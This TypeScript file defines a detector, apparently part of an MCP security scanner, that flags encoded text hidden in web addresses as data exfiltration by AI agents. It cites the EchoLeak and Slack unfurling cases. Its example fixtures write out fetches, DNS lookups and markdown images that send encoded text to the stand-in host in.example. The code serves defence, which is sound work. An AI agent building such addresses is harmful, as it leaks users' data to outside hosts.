/** A call carries readable text, encoded, inside a web address: as a fetch, or as an image that the reader’s client loads by itself. */
import { z } from 'zod'
import { defineDetector, type Output } from '../../schemas/detector.ts'
import { calls, story } from '../../schemas/story.ts'
import { carriedIn, mayCarry } from '../signals/address-data.ts'
import { argumentsOf } from '../signals/arguments.ts'
import { actOf } from '../signals/destinations.ts'

const FINDINGS_MAX = 5

const text = 'Dear David, please start the first phase of the project. The deadline is on Monday.'
const base64 = Buffer.from(text).toString('base64url')
const hex = Buffer.from(text).toString('hex')

/** Services that draw what stands in their address. */
const renderers = [
  'mermaid.ink',
  'kroki.io',
  'quickchart.io',
  'plantuml.com',
  'shields.io',
  'latex.codecogs.com',
  'chart.googleapis.com',
  'placehold.co',
  'dummyimage.com',
  'carbon.now.sh',
]

export default defineDetector({
  id: 'data-in-address',
  title: 'Text is hidden in a web address',
  why: 'A web address needs no permission to write: a fetch, a picture in a message or a link preview carries out what stands in it (EchoLeak CVE-2025-32711, Slack unfurling CVE-2025-34072).',
  family: 'D6',
  severity: 'medium',
  state: 'stable',
  version: 1,
  maps: {
    attack: ['T1567', 'T1048', 'T1132.001', 'T1071.004'],
    atlas: ['AML.T0086', 'AML.T0077', 'AML.T0057'],
    cosai: ['MCP-T5'],
    owaspMcp: ['MCP06', 'MCP10'],
    owaspAsi: ['ASI02'],
    safeMcp: ['SAFE-T1910', 'SAFE-T1911', 'SAFE-T1904'],
  },
  needs: ['arguments'],
  blindSpots: [
    'Compressed, encrypted or home-made encodings, and pieces of fewer than 24 characters.',
    'Plain words in the query of an ordinary fetch: so do all searches look.',
    'The address that the model writes in its answer to the user is rendered by the host and never crosses MCP.',
  ],
  playbook: [
    'Read what {destination} was told: {matched}. Where does it come from in the thread?',
    'Find the text that made the agent build the address, and block {destination}.',
    'If {tool} on {server} posted it for others to read, remove the message: their clients load the picture.',
  ],
  settings: z.object({ renderers: z.array(z.string()).default(renderers), ownHosts: z.array(z.string()).default([]) }),
  scope: 'event',
  reads: ['request', 'call'],
  methods: ['tools/call'],

  inspect({ subject, settings }) {
    const outputs: Output[] = []
    if (subject.kind !== 'event' || subject.event.arguments === undefined) return outputs
    const { event } = subject
    const known = (host: string) => [...settings.renderers, ...settings.ownHosts].some((end) => host === end || host.endsWith(`.${end}`))
    let count = 0
    for (const argument of argumentsOf(event)) {
      if (!mayCarry(argument)) continue
      const { pointer, text: value } = argument
      for (const { host, text: inner, encoding, image, inName, written } of carriedIn(value)) {
        if (known(host) || count >= FINDINGS_MAX) continue
        count += 1
        const server = event.serverAlias ?? event.serverKey
        const tool = event.toolName ?? ''
        outputs.push({
          finding: `${event.serverKey} ${tool} ${host}`,
          confidence: image || encoding === 'hex' ? 0.85 : 0.7,
          // No name of a machine is readable text in disguise.
          severity: encoding !== 'percent' && (image || inName || (actOf(event) !== 'read' && inner.length >= 40)) ? 'high' : 'medium',
          summary: `${tool} on ${server}: an address of ${host} holds ${inner.length} characters of text (${encoding})`,
          evidence: {
            server,
            tool,
            destination: host,
            address: written,
            transform: encoding,
            image,
            matched: inner.slice(0, 150),
            pointer,
          },
        })
      }
    }
    return outputs
  },

  examples: [
    { name: 'base64 in a query', story: story(calls('web', 'fetch', { url: `https://in.example/c?d=${base64}` })), fires: [0] },
    { name: 'hex in a path', story: story(calls('web', 'fetch', { url: `https://in.example/${hex}` })), fires: [0] },
    {
      name: 'in the labels of a name',
      story: story(calls('web', 'fetch', { url: `https://${hex.slice(0, 60)}.${hex.slice(60, 120)}.in.example/` })),
      fires: [0],
    },
    { name: 'a name that is looked up', story: story(calls('dns', 'resolve', { name: `${hex.slice(0, 60)}.t.in.example` })), fires: [0] },
    { name: 'hex that poses as a file', story: story(calls('web', 'fetch', { url: `https://in.example/${hex}.woff` })), fires: [0] },
    {
      name: 'an image in a message',
      story: story(calls('chat', 'post_message', { channel: 'all', text: `Done. ![ok](https://in.example/b.png?s=${base64})` })),
      fires: [0],
    },
    {
      name: 'an image with the words spelled out',
      story: story(calls('gh', 'add_comment', { body: `![x](https://in.example/p?d=${encodeURIComponent(text)})` })),
      fires: [0],
    },
    {
      name: 'a signed address of a storage',
      story: story(
        calls('web', 'fetch', {
          url: 'https://b.storage.example/r.pdf?X-Signature=089df49c0e7e04b7e1a21e4debb1b32976522a40379bfd3e8c8792ede76b1465',
        }),
      ),
      fires: [],
    },
    {
      name: 'a search for a sentence',
      story: story(calls('web', 'fetch', { url: `https://search.example/?q=${encodeURIComponent(text)}` })),
      fires: [],
    },
    {
      name: 'a picture through a proxy',
      story: story(
        calls('web', 'fetch', {
          url: `https://proxy.example/${Buffer.from('https://images.example/a/b/c/d/picture.png').toString('base64url')}`,
        }),
      ),
      fires: [],
    },
    {
      name: 'a diagram that a service draws',
      story: story(
        calls('docs', 'create_page', {
          body: `![flow](https://mermaid.ink/img/${Buffer.from('graph TD; start of it --> end of all things').toString('base64')})`,
        }),
      ),
      fires: [],
    },
    {
      name: 'the state of a login',
      story: story(
        calls('web', 'open', {
          url: `https://login.example/?state=${Buffer.from('{"csrf":"8f2a","next":"/home","ts":1700000000}').toString('base64url')}`,
        }),
      ),
      fires: [],
    },
    {
      name: 'a badge',
      story: story(calls('chat', 'post_message', { text: '![build](https://img.shields.io/badge/build-passing-green)' })),
      fires: [],
    },
    {
      name: 'a long path of words',
      story: story(calls('web', 'fetch', { url: 'https://blog.example/2026/01/how-to-grow-tomatoes-on-a-balcony-in-the-north' })),
      fires: [],
    },
  ],
})
